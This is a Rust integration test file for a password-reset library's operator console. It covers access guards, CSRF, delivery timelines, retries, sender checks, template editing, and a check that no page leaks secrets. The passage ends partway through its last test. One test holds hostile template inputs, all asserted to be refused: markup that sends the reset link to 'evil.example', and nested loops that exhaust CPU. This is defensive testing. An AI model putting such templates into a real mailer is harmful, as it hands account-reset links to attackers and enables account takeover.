//! The operator console: the host's guard on every route, CSRF bound to the
//! operator on every action, the timeline of a real flow, the queue's
//! "retry with a fresh link", the sender check, template save / refuse /
//! restore, and no page ever showing a token, a link with a token, a
//! password or a password hash.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use std::collections::HashSet;
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use reqwest::StatusCode;
use resetkit::mail::{
    DeliveryError, Mailer, OutgoingEmail, ProbeReport, ProbeStep, SenderProbe, SentReceipt, SmtpReply,
};
use resetkit::prelude::*;
use resetkit::sender::{QueueSender, SenderChain};
use resetkit::template::InMemoryTemplateStore;
use resetkit_axum::admin::{AdminConsole, guard_fn};
use resetkit_axum::{ResetPages, ServeOptions};
use secrecy::SecretString;
use tokio::sync::oneshot;

use common::{Browser, Page, hidden_value};

const NEW_PASSWORD: &str = "correct horse battery staple 42";
const OLD_PASSWORD: &str = "the-original-password-9";

/// A mail server in a test: replies like a real one, refuses the senders
/// and recipients it is told to, keeps what it accepted.
#[derive(Clone, Default)]
struct ScriptedServer {
    refuse_senders: Arc<Mutex<HashSet<String>>>,
    refuse_recipients: Arc<Mutex<HashSet<String>>>,
    accepted: Arc<Mutex<Vec<OutgoingEmail>>>,
}

#[async_trait]
impl Mailer for ScriptedServer {
    async fn send(&self, email: &OutgoingEmail) -> Result<SentReceipt, DeliveryError> {
        if self.refuse_senders.lock().unwrap().contains(email.from.address()) {
            return Err(DeliveryError::SenderRejected {
                sender: email.from.address().to_owned(),
                reply: Some(SmtpReply::new(550, Some("5.7.1"), "sender not authorised")),
            });
        }
        if self
            .refuse_recipients
            .lock()
            .unwrap()
            .contains(email.to.address())
        {
            return Err(DeliveryError::RecipientRejected {
                recipient: email.to.address().to_owned(),
                reply: Some(SmtpReply::new(550, Some("5.1.1"), "no such mailbox")),
            });
        }
        self.accepted.lock().unwrap().push(email.clone());
        Ok(SentReceipt {
            message_id: email.message_id.clone(),
            server_reply: Some("250 2.0.0 Ok: queued as 4711".into()),
        })
    }
}

#[async_trait]
impl SenderProbe for ScriptedServer {
    async fn probe(&self, from: &Mailbox) -> ProbeReport {
        let refused = self.refuse_senders.lock().unwrap().contains(from.address());
        let step = |name: &str, ok: bool, reply: SmtpReply| ProbeStep {
            name: name.into(),
            ok,
            reply: Some(reply),
            detail: if ok { "accepted".into() } else { "refused".into() },
        };
        let mut steps = vec![step("connect", true, SmtpReply::new(220, None, "scripted ESMTP"))];
        let error = if refused {
            steps.push(step(
                "mail_from",
                false,
                SmtpReply::new(550, Some("5.7.1"), "sender not authorised"),
            ));
            Some(DeliveryError::SenderRejected {
                sender: from.address().into(),
                reply: Some(SmtpReply::new(550, Some("5.7.1"), "sender not authorised")),
            })
        } else {
            steps.push(step("mail_from", true, SmtpReply::new(250, Some("2.1.0"), "Ok")));
            steps.push(step("rcpt_to", true, SmtpReply::new(250, Some("2.1.5"), "Ok")));
            None
        };
        steps.push(step("rset", true, SmtpReply::new(250, Some("2.0.0"), "Ok")));
        ProbeReport {
            sender: from.address().into(),
            probe_recipient: format!("postmaster@{}", from.domain()),
            steps,
            error,
        }
    }
}

struct Console {
    base: String,
    service: ResetService,
    server: ScriptedServer,
    accounts: Arc<InMemoryAccounts>,
    _stop: oneshot::Sender<()>,
}

impl Console {
    async fn deliver(&self) {
        let worker = self.service.delivery_worker().unwrap();
        worker.run_once().await.unwrap();
    }

    /// The newest reset link (full URL) sent to `to`.
    fn link_to(&self, to: &str) -> String {
        let accepted = self.server.accepted.lock().unwrap();
        let mail = accepted
            .iter()
            .rev()
            .find(|m| m.to.address() == to)
            .expect("a mail was accepted");
        mail.expose_text()
            .lines()
            .map(str::trim)
            .find(|l| l.contains("/reset?token="))
            .expect("a reset link")
            .to_owned()
    }

    fn operator(&self, name: &str) -> Browser {
        let browser = Browser::at(self.base.clone());
        browser.plant("test_operator", name);
        browser
    }
}

/// Dave and erin share an address; carol is disabled. The host's guard
/// admits a request whose `test_operator` cookie names an operator.
async fn start(page_size: usize) -> Console {
    start_with(page_size, RateLimits::unlimited()).await
}

/// [`start`] with these rate limits.
async fn start_with(page_size: usize, limits: RateLimits) -> Console {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let hasher = Arc::new(Argon2Hasher::fast_insecure_for_tests());
    let accounts = Arc::new(InMemoryAccounts::default());
    for (id, name, email) in [
        ("u-dave", "dave", "family@example.test"),
        ("u-erin", "erin", "family@example.test"),
        ("u-carol", "carol", "carol@example.test"),
    ] {
        let hash = hasher.hash(&SecretString::from(OLD_PASSWORD)).unwrap();
        accounts.insert(
            Account::new(id, name, email)
                .with_password_hash(hash)
                .with_disabled(name == "carol"),
        );
    }
    let server = ScriptedServer::default();
    let chain = SenderChain::new(vec![
        Arc::new(FixedSender::new(
            Mailbox::address_only("noreply@example.test").unwrap(),
        )),
        Arc::new(QueueSender::new(
            Mailbox::address_only("support@example.test").unwrap(),
        )),
    ]);
    let events = Arc::new(InMemoryEventLog::default());
    let outbox = Arc::new(InMemoryOutbox::default());
    let metrics = resetkit::metrics::ResetMetrics::new();
    let tokens = Arc::new(InMemoryTokenStore::default());
    let service = ResetService::builder()
        .metrics(metrics.clone())
        .request_processing(resetkit::flow::RequestProcessing::Immediate)
        .base_url(format!("http://{addr}"))
        .allow_insecure_http_for_local_testing()
        .site_name("Test site")
        .accounts(accounts.clone())
        .tokens(tokens.clone())
        .events(events.clone())
        .outbox(outbox.clone())
        .mailer(Arc::new(server.clone()))
        .sender(Arc::new(chain))
        .hasher(hasher)
        .rate_limits(limits)
        .build()
        .unwrap();
    let pages = ResetPages::builder(service.clone())
        .secure_cookies(false)
        .build()
        .unwrap();
    let guard = guard_fn(|parts| {
        parts
            .headers
            .get_all(axum::http::header::COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .flat_map(|v| v.split(';'))
            .find_map(|pair| pair.trim().strip_prefix("test_operator=").map(str::to_owned))
            .filter(|name| name.starts_with("op-"))
    });
    let stores = resetkit::flow::ConsoleStores::new(events.clone(), tokens).with_outbox(outbox.clone());
    let console = AdminConsole::builder(&pages, Arc::new(guard), stores)
        .sender_probe(Arc::new(server.clone()))
        .template_store(Arc::new(InMemoryTemplateStore::default()))
        .page_size(page_size)
        .overview(events, Some(outbox))
        .build()
        .unwrap();
    let app = axum::Router::new()
        .merge(pages.router())
        .merge(console.metrics_router(metrics, "/metrics").unwrap())
        .merge(console.router());
    let (stop, stopped) = oneshot::channel::<()>();
    tokio::spawn(resetkit_axum::serve(
        listener,
        app,
        ServeOptions::default(),
        async move {
            let _ = stopped.await;
        },
    ));
    Console {
        base: format!("http://{addr}"),
        service,
        server,
        accounts,
        _stop: stop,
    }
}

/// Opens `link` in `browser` and sets `password` through the pages.
async fn reset_through_pages(browser: &Browser, link: &str, password: &str) {
    let url = url::Url::parse(link).unwrap();
    let path = format!("{}?{}", url.path(), url.query().unwrap());
    browser.get(&path).await.assert_redirect("/reset/new");
    let form = browser.get("/reset/new").await;
    let done = browser
        .post(
            "/reset/new",
            &[
                ("password", password),
                ("confirm", password),
                ("csrf_token", &form.csrf()),
            ],
        )
        .await;
    done.assert_redirect("/reset/done");
}

/// The visible rows of a timeline page: the label of each, in order.
fn labels(page: &Page) -> Vec<String> {
    page.body
        .split("<span class=\"tag ")
        .skip(1)
        .filter_map(|s| s.split_once("\">").map(|(_, rest)| rest))
        .filter_map(|s| s.split_once("</span>").map(|(label, _)| label.to_owned()))
        .collect()
}

fn account_path(id: &str) -> String {
    format!("/admin/account?id={id}")
}

const GET_ROUTES: [&str; 10] = [
    "/admin",
    "/admin/search",
    "/admin/?q=family%40example.test",
    "/admin/account?id=u-dave",
    "/admin/queue",
    "/admin/queue?state=failed",
    "/admin/senders",
    "/admin/templates",
    "/admin/templates/edit?locale=en&kind=reset",
    "/admin/no-such-page",
];

const POST_ROUTES: [&str; 6] = [
    "/admin/account/reissue",
    "/admin/account/clear-limit",
    "/admin/queue/retry",
    "/admin/senders/check",
    "/admin/templates/save",
    "/admin/templates/restore",
];

#[tokio::test]
async fn every_admin_route_needs_the_hosts_guard() {
    let app = start(50).await;
    let stranger = Browser::at(app.base.clone());
    let not_operator = app.operator("mallory"); // the guard admits only `op-*`
    for who in [&stranger, &not_operator] {
        for path in GET_ROUTES {
            let page = who.get(path).await;
            assert_eq!(page.status, StatusCode::FORBIDDEN, "GET {path}: {}", page.body);
            assert!(page.body.contains("Operators only"), "{path}");
            assert_eq!(page.header("cache-control"), Some("no-store"), "{path}");
        }
        for path in POST_ROUTES {
            let page = who.post(path, &[("id", "u-dave")]).await;
            assert_eq!(page.status, StatusCode::FORBIDDEN, "POST {path}");
            assert!(page.body.contains("Operators only"), "{path}");
        }
    }
    let operator = app.operator("op-ann");
    for path in &GET_ROUTES[..9] {
        let page = operator.get(path).await;
        assert_eq!(page.status, StatusCode::OK, "GET {path}: {}", page.body);
        assert!(page.body.contains("op-ann"), "the page names the operator");
        for (header, value) in [
            ("cache-control", "no-store"),
            ("referrer-policy", "no-referrer"),
            ("x-frame-options", "DENY"),
        ] {
            assert_eq!(page.header(header), Some(value), "{path}");
        }
        assert!(page.header("content-security-policy").is_some());
    }
    assert_eq!(
        operator.get("/admin/no-such-page").await.status,
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn every_admin_action_needs_csrf_bound_to_the_operator() {
    let app = start(50).await;
    let ann = app.operator("op-ann");
    let csrf = ann.get("/admin/senders").await.csrf();
    for path in POST_ROUTES {
        // No token, a forged one, and ann's real token under another
        // operator's name: all refused before anything happens.
        for token in [None, Some("forged.token"), Some(csrf.as_str())] {
            let mut fields = vec![
                ("id", "u-dave"),
                ("message_id", "<x@y>"),
                ("locale", "en"),
                ("kind", "reset"),
            ];
            if let Some(t) = token {
                fields.push(("csrf_token", t));
            }
            let who = if token == Some(csrf.as_str()) {
                let bob = app.operator("op-bob");
                // bob's browser with ann's cookie and ann's token
                bob.plant("resetkit_csrf", &ann.cookie("resetkit_csrf").unwrap());
                bob
            } else {
                app.operator("op-ann")
            };
            let page = who.post(path, &fields).await;
            assert_eq!(
                page.status,
                StatusCode::FORBIDDEN,
                "POST {path} with {token:?}: {}",
                page.body
            );
            assert!(page.body.contains(resetkit_axum::CSRF_REFUSED), "{path}");
        }
    }
    assert!(
        app.server.accepted.lock().unwrap().is_empty(),
        "no refused action sent a link"
    );
    // ann's own token works.
    let page = ann
        .post(
            "/admin/account/reissue",
            &[("id", "u-dave"), ("csrf_token", &csrf)],
        )
        .await;
    page.assert_redirect("/admin/account?id=u-dave&done=reissued");
    let repeated = ann
        .post(
            "/admin/account/reissue",
            &[("id", "u-dave"), ("id", "u-erin"), ("csrf_token", &csrf)],
        )
        .await;
    assert_eq!(repeated.status, StatusCode::BAD_REQUEST, "one account per action");
    let json = ann
        .request(
            reqwest::Method::POST,
            "/admin/account/reissue",
            &[],
            Some((
                "application/json",
                format!("{{\"id\":\"u-dave\",\"csrf_token\":\"{csrf}\"}}"),
            )),
        )
        .await;
    assert_eq!(json.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
}

#[tokio::test]
async fn the_timeline_tells_the_story_of_a_reset_and_of_a_refused_sender() {
    let app = start(50).await;
    let user = Browser::at(app.base.clone());
    user.forgot("family@example.test").await;
    app.deliver().await;
    let link = app.link_to("family@example.test");
    reset_through_pages(&user, &link, NEW_PASSWORD).await;

    let ann = app.operator("op-ann");
    let found = ann.get("/admin/?q=FAMILY@example.test").await;
    assert!(found.body.contains("2 accounts for"), "{}", found.body);
    assert!(found.body.contains(">dave<") && found.body.contains(">erin<"));
    assert!(found.body.contains("share an email address"));
    let by_name = ann.get("/admin/?q=carol").await;
    assert!(by_name.body.contains("disabled"), "{}", by_name.body);

    // Which of the two got the completed reset: the link names its account.
    let who = app
        .service
        .inspect(link.split("token=").nth(1).unwrap())
        .await
        .err()
        .map(|_| ());
    assert!(who.is_some(), "the used link is dead");
    let dave = ann.get(&account_path("u-dave")).await;
    let erin = ann.get(&account_path("u-erin")).await;
    let completed = if labels(&dave).contains(&"password changed".to_owned()) {
        dave
    } else {
        erin
    };
    let story = labels(&completed);
    let mut oldest_first: Vec<&str> = story.iter().map(String::as_str).collect();
    oldest_first.reverse();
    let wanted = [
        "requested",
        "link issued",
        "sender resolved",
        "SMTP 250",
        "delivered",
        "link opened",
        "password changed",
    ];
    let mut at = 0;
    for step in wanted {
        let found = oldest_first[at..].iter().position(|l| *l == step);
        assert!(
            found.is_some(),
            "no `{step}` after position {at} in {oldest_first:?}"
        );
        at += found.unwrap_or(0) + 1;
    }
    assert!(
        completed.body.contains("250 2.0.0 Ok: queued as 4711"),
        "the server's reply"
    );
    assert!(completed.body.contains("the configured fixed sender"));

    // The server now refuses noreply@: the worker falls back to the queue
    // mailbox, and the timeline shows the refusal and the fallback.
    app.server
        .refuse_senders
        .lock()
        .unwrap()
        .insert("noreply@example.test".into());
    let csrf = ann.get(&account_path("u-dave")).await.csrf();
    ann.post(
        "/admin/account/reissue",
        &[("id", "u-dave"), ("csrf_token", &csrf)],
    )
    .await
    .assert_redirect("/admin/account?id=u-dave&done=reissued");
    app.deliver().await;
    let dave = ann.get(&account_path("u-dave")).await;
    let rows = labels(&dave)[1..].to_vec(); // after the account's state
    assert_eq!(rows[0], "delivered", "{rows:?}");
    assert_eq!(rows[1], "SMTP 250", "{rows:?}");
    assert!(rows.contains(&"SMTP 550".to_owned()), "{rows:?}");
    assert!(rows.contains(&"delivery failed".to_owned()), "{rows:?}");
    assert!(rows.contains(&"fresh link sent".to_owned()), "{rows:?}");
    assert!(
        dave.body.contains("550 5.7.1 sender not authorised"),
        "{}",
        dave.body
    );
    assert!(
        dave.body
            .contains("From support@example.test: the shared queue mailbox, as a fallback after"),
        "{}",
        dave.body
    );
    assert!(dave.body.contains("by operator op-ann"));
    let after = ann.get("/admin/account?id=u-dave&done=reissued").await;
    assert!(
        after.body.contains("A fresh link was issued"),
        "the action's outcome is shown"
    );
}

#[tokio::test]
async fn timelines_page_newest_first() {
    let app = start(3).await;
    let ann = app.operator("op-ann");
    let csrf = ann.get("/admin/senders").await.csrf();
    for _ in 0..3 {
        ann.post(
            "/admin/account/reissue",
            &[("id", "u-dave"), ("csrf_token", &csrf)],
        )
        .await;
    }
    let first = ann.get(&account_path("u-dave")).await;
    assert_eq!(
        labels(&first).len(),
        3 + 1,
        "3 events and the account's state tag"
    );
    let older = first
        .body
        .split("href=\"/admin/account?id=u-dave&amp;before=")
        .nth(1)
        .unwrap();
    let before: String = older.chars().take_while(char::is_ascii_digit).collect();
    let second = ann
        .get(&format!("/admin/account?id=u-dave&before={before}"))
        .await;
    assert_eq!(second.status, StatusCode::OK);
    assert_eq!(labels(&second).len(), 3 + 1);
    let bad = ann.get("/admin/account?id=u-dave&before=soon").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.body.contains("whole number"));
    let missing = ann.get("/admin/account?id=nobody").await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    let none = ann.get("/admin/account").await;
    assert_eq!(none.status, StatusCode::BAD_REQUEST);
    let long = ann.get(&format!("/admin/?q={}", "a".repeat(400))).await;
    assert_eq!(long.status, StatusCode::BAD_REQUEST);
    assert_eq!(
        ann.get("/admin/queue?state=lost").await.status,
        StatusCode::BAD_REQUEST
    );
}

#[tokio::test]
async fn a_failed_email_is_retried_with_a_fresh_link_not_resent() {
    let app = start(50).await;
    app.server
        .refuse_recipients
        .lock()
        .unwrap()
        .insert("family@example.test".into());
    let user = Browser::at(app.base.clone());
    user.forgot("erin").await;
    app.deliver().await;
    let ann = app.operator("op-ann");
    let failed = ann.get("/admin/queue?state=failed").await;
    assert!(
        failed.body.contains("550 5.1.1 no such mailbox"),
        "{}",
        failed.body
    );
    let message_id = hidden_value(&failed.body, "message_id").expect("a retry button");
    let message_id = message_id.replace("&lt;", "<").replace("&gt;", ">");
    app.server.refuse_recipients.lock().unwrap().clear();
    ann.post(
        "/admin/queue/retry",
        &[("message_id", &message_id), ("csrf_token", &failed.csrf())],
    )
    .await
    .assert_redirect("/admin/queue?state=failed&done=retried");
    assert!(
        !ann.get("/admin/queue?state=failed")
            .await
            .body
            .contains(&message_id.replace('<', "&lt;")),
        "the retried email left the failed list"
    );
    let dropped = ann.get("/admin/queue?state=dropped").await;
    assert!(
        dropped.body.contains("retried by operator op-ann"),
        "{}",
        dropped.body
    );
    app.deliver().await;
    let accepted = app.server.accepted.lock().unwrap().clone();
    assert_eq!(accepted.len(), 1, "only the fresh link's email went out");
    assert_ne!(
        accepted[0].message_id, message_id,
        "a new email, not the failed one"
    );
    let erin = ann.get(&account_path("u-erin")).await;
    let rows = labels(&erin);
    assert!(
        rows.contains(&"links revoked".to_owned()),
        "the old link was superseded: {rows:?}"
    );
    assert!(erin.body.contains(&format!(
        "in place of {}",
        message_id.replace('<', "&lt;").replace('>', "&gt;")
    )));
    // Retrying it again, or a message that is not failed, is refused.
    let again = ann
        .post(
            "/admin/queue/retry",
            &[("message_id", &message_id), ("csrf_token", &failed.csrf())],
        )
        .await;
    assert_eq!(again.status, StatusCode::CONFLICT);
    let unknown = ann
        .post(
            "/admin/queue/retry",
            &[("message_id", "<nope@x>"), ("csrf_token", &failed.csrf())],
        )
        .await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn the_sender_check_probes_every_sender_of_the_chain() {
    let app = start(50).await;
    app.server
        .refuse_senders
        .lock()
        .unwrap()
        .insert("noreply@example.test".into());
    let ann = app.operator("op-ann");
    let page = ann.get("/admin/senders").await;
    assert!(page.body.contains("noreply@example.test") && page.body.contains("support@example.test"));
    let checked = ann
        .post("/admin/senders/check", &[("csrf_token", &page.csrf())])
        .await;
    assert_eq!(checked.status, StatusCode::OK);
    let noreply = checked
        .body
        .split("<h2>")
        .find(|s| s.starts_with("&lt;noreply@"))
        .unwrap();
    assert!(
        noreply.contains("refused") && noreply.contains("550 5.7.1 sender not authorised"),
        "{noreply}"
    );
    let support = checked
        .body
        .split("<h2>")
        .find(|s| s.starts_with("&lt;support@"))
        .unwrap();
    assert!(support.contains("accepted") && support.contains("rcpt_to") && support.contains("250 2.1.5 Ok"));
    assert!(
        app.server.accepted.lock().unwrap().is_empty(),
        "nothing delivered"
    );
}

#[tokio::test]
async fn a_template_that_lost_its_link_is_refused_and_a_saved_one_is_used() {
    let app = start(50).await;
    let ann = app.operator("op-ann");
    let edit = ann.get("/admin/templates/edit?locale=en&kind=reset").await;
    assert!(edit.body.contains("every email carries its links"));
    assert!(edit.body.contains("<iframe sandbox=\"\""), "HTML part sandboxed");
    assert!(edit.body.contains("SAMPLE-TOKEN-FOR-PREVIEW"));
    let before = app.service.templates();
    let subject = "Reset your {{ site_name }} password";
    let html = before.locale("en").unwrap().reset.html.clone();
    let refused = ann
        .post(
            "/admin/templates/save",
            &[
                ("locale", "en"),
                ("kind", "reset"),
                ("subject", subject),
                ("text", "Hello {{ username }}, click the button in the HTML part."),
                ("html", &html),
                ("csrf_token", &edit.csrf()),
            ],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.body.contains("Not saved"), "{}", refused.body);
    assert!(
        refused.body.contains("reset.text"),
        "names the part: {}",
        refused.body
    );
    assert!(
        refused.body.contains("click the button in the HTML part"),
        "keeps the operator's text"
    );
    assert_eq!(app.service.templates(), before, "the service keeps its templates");
    assert!(!refused.body.contains("Restore"), "nothing was stored");

    let text = "Hi {{ username }}, here is your new-style link:\n\n{{ link }}\n\nNot you? Cancel it:\n{{ deny_link }}\n";
    ann.post(
        "/admin/templates/save",
        &[
            ("locale", "en"),
            ("kind", "reset"),
            ("subject", subject),
            ("text", &text.replace('\n', "\r\n")),
            ("html", &html),
            ("csrf_token", &edit.csrf()),
        ],
    )
    .await
    .assert_redirect("/admin/templates/edit?locale=en&kind=reset&saved=1");
    let user = Browser::at(app.base.clone());
    user.forgot("dave").await;
    app.deliver().await;
    let mail = app.server.accepted.lock().unwrap().last().cloned().unwrap();
    assert!(
        mail.expose_text().contains("here is your new-style link"),
        "the saved template is used"
    );

    let saved = ann
        .get("/admin/templates/edit?locale=en&kind=reset&saved=1")
        .await;
    assert!(saved.body.contains("Saved as version 1"));
    ann.post(
        "/admin/templates/save",
        &[
            ("locale", "en"),
            ("kind", "reset"),
            ("subject", subject),
            ("text", &before.locale("en").unwrap().reset.text),
            ("html", &html),
            ("csrf_token", &edit.csrf()),
        ],
    )
    .await
    .assert_redirect("/admin/templates/edit?locale=en&kind=reset&saved=2");
    ann.post(
        "/admin/templates/restore",
        &[
            ("locale", "en"),
            ("kind", "reset"),
            ("version", "1"),
            ("csrf_token", &edit.csrf()),
        ],
    )
    .await
    .assert_redirect("/admin/templates/edit?locale=en&kind=reset&restored=1");
    assert!(
        app.service
            .templates()
            .locale("en")
            .unwrap()
            .reset
            .text
            .contains("new-style"),
        "version 1 is back in use"
    );
    let bad = ann
        .post(
            "/admin/templates/save",
            &[
                ("locale", "en"),
                ("kind", "nonsense"),
                ("subject", "x"),
                ("text", "x"),
                ("html", "x"),
                ("csrf_token", &edit.csrf()),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    let broken_syntax = ann
        .post(
            "/admin/templates/save",
            &[
                ("locale", "en"),
                ("kind", "reset"),
                ("subject", subject),
                ("text", "{{ link"),
                ("html", &html),
                ("csrf_token", &edit.csrf()),
            ],
        )
        .await;
    assert_eq!(broken_syntax.status, StatusCode::UNPROCESSABLE_ENTITY);
}

/// Finding 1 of the fourth review: an operator (or whoever took the
/// account) saves a template that copies the link to another site, loads a
/// remote image, or burns CPU. Each is refused at save with the reason, and
/// the mail that follows still carries the link only to the reset page.
#[tokio::test]
async fn a_template_that_sends_the_link_elsewhere_or_burns_cpu_is_refused() {
    let app = start(50).await;
    let ann = app.operator("op-ann");
    let edit = ann.get("/admin/templates/edit?locale=en&kind=reset").await;
    let before = app.service.templates();
    let reset = before.locale("en").unwrap().reset.clone();
    let attempts = [
        (
            reset.text.clone(),
            format!(
                "{}<img src=\"https://evil.example/p?{{{{ link }}}}\">",
                reset.html
            ),
            "reset.html",
            "evil.example",
        ),
        (
            format!("{}\nhttps://evil.example/c?{{{{ link }}}}\n", reset.text),
            reset.html.clone(),
            "reset.text",
            "outside a line holding only the link",
        ),
        (
            reset.text.clone(),
            format!(
                "{}<img src=\"https://cdn.example/logo.png\" alt=\"logo\">",
                reset.html
            ),
            "reset.html",
            "remote resource",
        ),
        (
            format!(
                "{}{{% for i in range(2000) %}}{{% for j in range(2000) %}}{{% endfor %}}{{% endfor %}}",
                reset.text
            ),
            reset.html.clone(),
            "reset.render",
            "too much work",
        ),
    ];
    for (text, html, part, reason) in attempts {
        let refused = ann
            .post(
                "/admin/templates/save",
                &[
                    ("locale", "en"),
                    ("kind", "reset"),
                    ("subject", &reset.subject),
                    ("text", &text),
                    ("html", &html),
                    ("csrf_token", &edit.csrf()),
                ],
            )
            .await;
        assert_eq!(
            refused.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{part}: {reason}"
        );
        assert!(refused.body.contains("Not saved"), "{}", refused.body);
        assert!(
            refused.body.contains(part) && refused.body.contains(reason),
            "the console shows why ({part}, {reason}): {}",
            refused.body
        );
        assert_eq!(app.service.templates(), before, "the service keeps its templates");
    }
    let user = Browser::at(app.base.clone());
    user.forgot("dave").await;
    app.deliver().await;
    let mail = app.server.accepted.lock().unwrap().last().cloned().unwrap();
    assert!(!mail.expose_text().contains("evil.example"));
    assert!(!mail.expose_html().contains("evil.example"));
}

/// Every page of the console, after a flow whose secrets we hold: none of
/// them shows a token, a link with a token, a password or a password hash.
#[tokio::test]
async fn no_admin_page_shows_a_token_a_link_a_password_or_a_hash() {
    let app = start(4).await;
    let user = Browser::at(app.base.clone());
    user.forgot("family@example.test").await;
    app.deliver().await;
    let mut secrets: Vec<String> = vec![NEW_PASSWORD.into(), OLD_PASSWORD.into()];
    let mails = app.server.accepted.lock().unwrap().clone();
    for mail in &mails {
        for line in mail
            .expose_text()
            .lines()
            .map(str::trim)
            .filter(|l| l.starts_with("http"))
        {
            secrets.push(line.to_owned());
            if let Some((_, token)) = line.split_once("token=") {
                secrets.push(token.to_owned());
            }
        }
    }
    assert!(
        secrets.len() >= 2 + 4 * 2,
        "two reset and two deny links: {}",
        secrets.len()
    );
    let link = app.link_to("family@example.test");
    reset_through_pages(&user, &link, NEW_PASSWORD).await;
    // A failed and a retried email too, and a refused password attempt.
    app.server
        .refuse_recipients
        .lock()
        .unwrap()
        .insert("family@example.test".into());
    user.forgot("erin").await;
    app.deliver().await;
    for id in ["u-dave", "u-erin", "u-carol"] {
        let account = app
            .accounts
            .find_by_id(&AccountId::from(id))
            .await
            .unwrap()
            .unwrap();
        if let Some(hash) = account.password_hash {
            secrets.push(hash.expose().to_owned());
        }
    }

    let ann = app.operator("op-ann");
    let mut pages: Vec<(String, Page)> = Vec::new();
    let mut visit = |path: String, page: Page| pages.push((path, page));
    for path in [
        "/admin/".to_owned(),
        "/admin/?q=family@example.test".into(),
        "/admin/?q=dave".into(),
        "/admin/queue".into(),
        "/admin/queue?state=failed".into(),
        "/admin/queue?state=dropped".into(),
        "/admin/senders".into(),
        "/admin/templates".into(),
        "/admin/search".into(),
        "/metrics".into(),
    ] {
        visit(path.clone(), ann.get(&path).await);
    }
    for kind in ["reset", "reset_combined", "username_required", "password_changed"] {
        let path = format!("/admin/templates/edit?locale=en&kind={kind}");
        visit(path.clone(), ann.get(&path).await);
    }
    for id in ["u-dave", "u-erin", "u-carol"] {
        let mut path = account_path(id);
        loop {
            let page = ann.get(&path).await;
            let next = page
                .body
                .split(&format!("href=\"/admin/account?id={id}&amp;before="))
                .nth(1)
                .map(|rest| rest.chars().take_while(char::is_ascii_digit).collect::<String>());
            visit(path.clone(), page);
            match next {
                Some(before) => path = format!("{}&before={before}", account_path(id)),
                None => break,
            }
        }
    }
    let csrf = ann.get("/admin/senders").await.csrf();
    visit(
        "POST /admin/senders/check".into(),
        ann.post("/admin/senders/check", &[("csrf_token", &csrf)]).await,
    );
    visit(
        "POST /admin/templates/save (refused)".into(),
        ann.post(
            "/admin/templates/save",
            &[
                ("locale", "en"),
                ("kind", "reset"),
                ("subject", "s"),
                ("text", "t"),
                ("html", "h"),
                ("csrf_token", &csrf),
            ],
        )
        .await,
    );
    let failed = ann.get("/admin/queue?state=failed").await;
    let message_id = hidden_value(&failed.body, "message_id")
        .unwrap()
        .replace("&lt;", "<")
        .replace("&gt;", ">");
    app.server.refuse_recipients.lock().unwrap().clear();
    ann.post(
        "/admin/queue/retry",
        &[("message_id", &message_id), ("csrf_token", &csrf)],
    )
    .await
    .assert_redirect("/admin/queue?state=failed&done=retried");
    app.deliver().await;
    visit(account_path("u-erin"), ann.get(&account_path("u-erin")).await);

    assert!(pages.len() > 18, "{} pages", pages.len());
    let timeline_pages = pages
        .iter()
        .filter(|(p, _)| p.contains("/admin/account?"))
        .count();
    assert!(timeline_pages >= 5, "paged timelines were read: {timeline_pages}");
    for (path, page) in &pages {
        assert!(
            page.status.is_success() || page.status == StatusCode::UNPROCESSABLE_ENTITY,
            "{path}: {}",
            page.status
        );
        for secret in &secrets {
            let encoded: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
            let escaped = secret.replace('&', "&amp;");
            let slashes = escaped.replace('/', "&#x2f;");
            for form in [
                secret.as_str(),
                encoded.as_str(),
                escaped.as_str(),
                slashes.as_str(),
            ] {
                assert!(
                    !page.body.contains(form),
                    "{path} shows a secret ({} chars)",
                    secret.len()
                );
            }
        }
        assert!(!page.body.contains("$argon2"), "{path} shows a password hash");
        assert!(
            !page.body.contains("/reset?token=") || page.body.contains("SAMPLE-TOKEN-FOR-PREVIEW"),
            "{path}"
        );
        for token in page.body.split("token=").skip(1) {
            // The preview's placeholder, or the lint naming a link without its token.
            assert!(
                token.starts_with("SAMPLE-TOKEN-FOR-PREVIEW") || token.starts_with('…'),
                "{path}: a token-like link"
            );
        }
    }
}

/// The value in the overview's counts table: row `activity`, column
/// `class` (`hour` or `day`).
fn count(page: &Page, activity: &str, class: &str) -> u64 {
    let row = page
        .body
        .split(&format!("data-activity=\"{activity}\""))
        .nth(1)
        .unwrap_or_else(|| panic!("no row {activity}"));
    let cell = row
        .split(&format!("class=\"{class}\">"))
        .nth(1)
        .unwrap_or_else(|| panic!("no {class} cell in row {activity}"));
    cell.split('<').next().unwrap().trim().parse().unwrap()
}

#[tokio::test]
async fn the_overview_shows_refusals_jump_and_names_the_sender_and_reply() {
    let app = start(50).await;
    let ann = app.operator("op-ann");
    let quiet = ann.get("/admin").await;
    assert_eq!(quiet.status, StatusCode::OK, "{}", quiet.body);
    assert!(quiet.body.contains("<svg"), "the chart");
    assert!(
        !quiet.body.contains("role=\"alert\""),
        "no banner while nothing fails"
    );
    assert_eq!(count(&quiet, "requested", "hour"), 0);

    app.server
        .refuse_senders
        .lock()
        .unwrap()
        .insert("noreply@example.test".into());
    let user = Browser::at(app.base.clone());
    for who in ["dave", "erin", "nobody@example.test"] {
        user.forgot(who).await;
    }
    app.deliver().await;

    let page = ann.get("/admin").await;
    assert_eq!(page.status, StatusCode::OK);
    let banner = page
        .body
        .split("role=\"alert\"")
        .nth(1)
        .expect("a banner")
        .split("</div>")
        .next()
        .unwrap();
    assert!(banner.contains("noreply@example.test"), "{banner}");
    assert!(banner.contains("550 5.7.1 sender not authorised"), "{banner}");
    assert!(banner.contains("2 refusals"), "{banner}");
    assert!(banner.contains("href=\"/admin/senders\""), "{banner}");
    assert_eq!(count(&page, "requested", "hour"), 3);
